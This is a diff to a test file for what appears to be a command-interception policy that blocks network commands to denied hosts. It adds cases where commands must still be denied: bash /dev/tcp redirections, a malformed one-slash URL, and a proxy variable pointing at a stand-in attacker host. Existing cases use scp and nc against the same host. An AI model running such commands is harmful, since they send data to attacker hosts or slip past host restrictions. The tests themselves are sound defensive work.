@@ -19,7 +19,14 @@ describe("denied_hosts and allowed_hosts apply to the network programs a command
     "scp notes.txt evil.example:/tmp/",
     "nc evil.example 443",
     "echo hi; curl http://ok.example@evil.example/",
-    "timeout 5 curl https://api.evil.example/"
+    "timeout 5 curl https://api.evil.example/",
+    // Found by review: a one-slash URL, bash's network redirections (also on a compound command or alone),
+    // a proxy exported earlier on the line.
+    "curl https:/evil.example/",
+    "echo x > /dev/tcp/evil.example/80",
+    "{ echo x; } > /dev/tcp/evil.example/80",
+    "> /dev/tcp/evil.example/80",
+    "export https_proxy=http://evil.example:80; curl https://ok.example"
   ])("%s is blocked by policy, even with a token for every program and a person saying yes", async (command) => {
     const channel = scriptedChannel(answer({ _tag: "AllowOnce" }))
     const h = await makeHarness({ channel, settings: { policy: { ...DEFAULT_POLICY, deniedHosts: ["evil.example", "*.evil.example"] } } })
@@ -34,6 +41,13 @@ describe("denied_hosts and allowed_hosts apply to the network programs a command
     const h = await makeHarness({ channel: scriptedChannel(answer({ _tag: "AllowOnce" })), settings: { policy: { ...DEFAULT_POLICY, allowedHosts: ["github.com"] } } })
     expect(await h.intercept({ request: exec("curl https://example.org/") })).toMatchObject({ _tag: "Denied", stage: "policy" })
     expect(await h.intercept({ request: exec("git clone https://github.com/a/b") })).toMatchObject({ _tag: "Allowed" })
+  })
+
+  it("a proxy variable set on the line asks, even where a program grant would pass the command", async () => {
+    const channel = scriptedChannel(answer({ _tag: "Deny", reason: "no" }))
+    const h = await makeHarness({ channel, settings: { preApproved: ["exec://curl"] } })
+    expect(await h.intercept({ request: exec("curl https://ok.example/") })).toMatchObject({ _tag: "Allowed", proof: "policy" })
+    expect(await h.intercept({ request: exec("https_proxy=http://evil.example:3128; curl https://ok.example/") })).toMatchObject({ _tag: "Denied", stage: "approval" })
   })
 
   it("an unknown network target asks, even where a program grant would pass the command", async () => {
